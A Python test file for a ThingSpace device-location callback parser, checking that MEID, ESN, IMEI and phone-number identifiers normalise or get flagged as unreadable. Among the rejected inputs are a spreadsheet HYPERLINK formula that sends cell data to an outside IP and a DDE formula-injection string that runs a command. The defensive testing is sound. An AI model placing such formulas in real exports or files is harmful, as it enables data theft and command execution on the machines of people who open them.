"""Who a callback is about, however ThingSpace writes it."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from thingspace_stand_in import ACCOUNT, IMEI, MDN, TRANSACTION

from app.model import Report
from app.providers.thingspace.callbacks import ThingSpaceCallbacks
from app.providers.thingspace.settings import ThingSpaceSettings

MEID = "A10000EE77FF88"
ESN = "8021AB4F"
POSITION = {"time": "20260301120000", "x": "42.09551", "y": "-71.26483", "radius": "35", "locationType": "1"}


def report_of(*, account: Any = ACCOUNT, transaction: Any = TRANSACTION, **device: Any) -> Report:
    body = {
        "accountName": account,
        "deviceList": [{**device, "positionData": POSITION}],
        "reportType": "LOCATION_REPORT",
        "status": "SUCCESS",
        "transactionID": transaction,
    }
    [report] = ThingSpaceCallbacks(ThingSpaceSettings(_env_file=None)).read(json.dumps(body).encode())
    return report


@pytest.mark.parametrize(
    ("id_", "kind", "expected"),
    [
        pytest.param("a10000ee77ff88", "meid", MEID, id="MEID in lower case"),
        pytest.param("A1-00-00-EE-77-FF-88", "MEID", MEID, id="MEID with separators"),
        pytest.param("270113201407864200", "MEID", MEID, id="decimal MEID"),
        pytest.param("8021ab4f", "esn", ESN, id="ESN in lower case"),
        pytest.param("12802206543", "ESN", ESN, id="decimal ESN"),
        pytest.param("99-000112-345678-2", "IMEI", IMEI, id="IMEI with separators"),
        pytest.param("imei:990001123456782", "IMEI", IMEI, id="IMEI with a prefix"),
        pytest.param("'990001123456782", "IMEI", IMEI, id="IMEI with a spreadsheet's apostrophe"),
        pytest.param("990001123456782.0", "IMEI", IMEI, id="IMEI as a fraction"),
        pytest.param("\u200e990001123456782\ufeff", "IMEI", IMEI, id="IMEI with invisible characters"),
        pytest.param("99000112345678", "IMEI", IMEI, id="IMEI without its check digit"),
        pytest.param("9900011234567805", "IMEISV", IMEI, id="IMEI with a software version"),
        pytest.param("990001123456789", "IMEI", "990001123456789", id="IMEI with a wrong check digit"),
    ],
)
def test_one_device_is_one_report_however_it_is_written(id_: str, kind: str, expected: str) -> None:
    report, canonical = report_of(id=id_, kind=kind, mdn=MDN), report_of(id=expected, kind=kind[:4], mdn=MDN)

    assert report == canonical
    assert report.device.id == expected
    assert report.flags == ()


@pytest.mark.parametrize(
    "id_",
    [
        "9.90001E+14",
        9.90001e14,
        '=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
        "null",
        "N/A",
        "9900011234567",
        12345678901234,
        "000000000000000",
        "x" * 4000,
    ],
)
def test_what_cannot_be_an_imei_is_left_out_and_flagged(id_: Any) -> None:
    report = report_of(id=id_, kind="IMEI", mdn=MDN)

    assert (report.device.id, report.device.kind, report.device.mdn) == (None, None, MDN)
    assert report.flags == ("identifier_unreadable",)
    assert report.status == "located"


@pytest.mark.parametrize(
    "mdn", ["@SUM(1+1)*cmd|' /C calc'!A0", "508555010", "+447700900123", "5.08555E+09", "0000000000"]
)
def test_what_cannot_be_an_mdn_is_left_out_and_flagged(mdn: str) -> None:
    report = report_of(id=IMEI, kind="IMEI", mdn=mdn)

    assert (report.device.id, report.device.mdn) == (IMEI, None)
    assert report.flags == ("identifier_unreadable",)


@pytest.mark.parametrize("mdn", ["15085550101", "+15085550101", "(508) 555-0101", "tel:+1-508-555-0101", 15085550101])
def test_the_country_code_of_a_number_is_dropped(mdn: Any) -> None:
    assert report_of(id=IMEI, kind="IMEI", mdn=mdn) == report_of(id=IMEI, kind="IMEI", mdn=MDN)


def test_reports_about_different_unreadable_devices_differ() -> None:
    one, other = report_of(id="pump", kind="IMEI"), report_of(id="valve", kind="IMEI")

    assert one.content_key != other.content_key


def test_a_number_among_the_ids_is_the_mdn() -> None:
    report = report_of(deviceIds=[{"id": "15085550101", "kind": "mdn"}])

    assert (report.device.id, report.device.mdn, report.flags) == (None, MDN, ())


def test_account_and_transaction_lose_what_surrounds_them_unseen() -> None:
    report = report_of(id=IMEI, kind="IMEI", account=f"\ufeff{ACCOUNT}\u00a0", transaction=f"{TRANSACTION}\u200b ")

    assert report == report_of(id=IMEI, kind="IMEI")


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
        st.lists,
    )
)
def test_whatever_stands_for_an_identifier_only_identifiers_come_out(value: Any) -> None:
    for name in ("id", "mdn"):
        device = report_of(**{name: value}).device

        assert device.id is None or device.id.isalnum()
        assert device.mdn is None or len(device.mdn) == 10
